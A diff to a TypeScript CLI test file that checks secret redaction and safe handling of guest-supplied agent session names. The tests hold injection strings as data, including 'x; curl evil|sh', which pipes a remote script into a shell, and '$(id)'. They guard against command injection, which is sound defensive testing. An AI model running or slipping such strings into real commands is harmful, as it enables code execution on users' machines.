@@ -33,6 +33,8 @@ let repo: string;
 let server: Server;
 let seen: Seen[] = [];
 let sessions: AgentSession[] = [];
+/** The command line the fake's start answers with (default: `AGENT --flag`). */
+let startCommand: string | undefined;
 
 const session = (name: string, command: string | null): AgentSession => ({ name, windows: 1, attached: 0, createdAt: new Date(0).toISOString(), command });
 
@@ -125,7 +127,7 @@ before(async () => {
       const b = body as { agent: string; cwd?: string };
       const created = !sessions.some((s) => s.name === b.agent);
       if (created) sessions.push(session(b.agent, `${b.agent} --flag`));
-      return json(200, { agent: b.agent, session: b.agent, created, cwd: b.cwd ?? '/root/repo', command: `${b.agent} --flag` });
+      return json(200, { agent: b.agent, session: b.agent, created, cwd: b.cwd ?? '/root/repo', command: startCommand ?? `${b.agent} --flag` });
     }
     if (req.method === 'GET' && (url === `/v1/vms/${VM_ID}/agents` || url === '/v1/vms/dev/agents')) return json(200, { sessions });
     if (req.method === 'POST' && url === `/v1/vms/${VM_ID}/procs`) {
@@ -154,6 +156,7 @@ after(async () => {
 beforeEach(() => {
   seen = [];
   sessions = [];
+  startCommand = undefined;
 });
 
 /** The CLI; `tty` runs it under a pseudo-terminal (util-linux `script`), as a user's terminal would. */
@@ -276,6 +279,28 @@ describe('vm agent start|list|attach', () => {
     assert.equal(json.sessions.length, 2);
   });
 
+  test('start --json and list never print an env value, even from a daemon that sent one', async () => {
+    const SECRET = 'sk-ant-do-not-leak';
+    startCommand = `IS_SANDBOX=1 ANTHROPIC_API_KEY='${SECRET} x' claude --dangerously-skip-permissions`;
+    sessions = [session('claude', startCommand), session('other', `K="${SECRET}" L=$(${SECRET}) prog`)];
+    const outputs = [
+      await cli(['vm', 'agent', 'start', 'dev', 'claude', '--json']),
+      await cli(['vm', 'agent', 'start', 'dev', 'claude']),
+      await cli(['vm', 'agent', 'list', 'dev']),
+      await cli(['vm', 'agent', 'list', 'dev', '--json']),
+    ];
+    for (const r of outputs) {
+      assert.equal(r.code, 0, r.stderr);
+      assert.ok(!`${r.stdout}${r.stderr}`.includes(SECRET), r.stdout);
+    }
+    assert.equal(JSON.parse(outputs[0]?.stdout ?? '').command, 'IS_SANDBOX=1 ANTHROPIC_API_KEY=… claude --dangerously-skip-permissions');
+    assert.match(outputs[2]?.stdout ?? '', /claude\s+0\s+1\s+.*IS_SANDBOX=1 ANTHROPIC_API_KEY=… claude --dangerously-skip-permissions/);
+    assert.deepEqual(
+      (JSON.parse(outputs[3]?.stdout ?? '') as { sessions: AgentSession[] }).sessions.map((x) => x.command),
+      ['IS_SANDBOX=1 ANTHROPIC_API_KEY=… claude --dangerously-skip-permissions', 'K=… L=…'],
+    );
+  });
+
   test('attach: picks the only agent session, asks which one among several, refuses without a terminal', async (t) => {
     sessions = [session('claude', 'claude'), session('work', null)];
     const none = await cli(['vm', 'agent', 'attach', 'dev']);
@@ -285,6 +310,18 @@ describe('vm agent start|list|attach', () => {
     const two = await cli(['vm', 'agent', 'attach', 'dev']);
     assert.equal(two.code, 2);
     assert.match(two.stderr, /dev runs 2 agent sessions \(claude, codex\): say which/);
+    // A guest's session names never go into a command to copy unless they are agent names.
+    sessions = [session('x; curl evil|sh', 'claude'), session('codex', 'codex')];
+    const hostile = await cli(['vm', 'agent', 'attach', 'dev']);
+    assert.equal(hostile.code, 2);
+    assert.match(hostile.stderr, /dev runs 2 agent sessions \(x; curl evil\|sh \(not an agent name\), codex\): say which/);
+    assert.match(hostile.stderr, /banger vm agent attach dev --agent codex/);
+    assert.doesNotMatch(hostile.stderr, /--agent x;/);
+    sessions = [session('x; curl evil|sh', 'claude'), session('$(id)', 'codex')];
+    const noName = await cli(['vm', 'agent', 'attach', 'dev']);
+    assert.doesNotMatch(noName.stderr, /--agent/);
+    assert.match(noName.stderr, /banger vm agent list dev/);
+    sessions = [session('claude', 'claude'), session('work', null), session('codex', 'codex')];
     const missing = await cli(['vm', 'agent', 'attach', 'dev', '--agent', 'pi']);
     assert.equal(missing.code, 1);
     assert.match(missing.stderr, /no agent session pi in dev/);
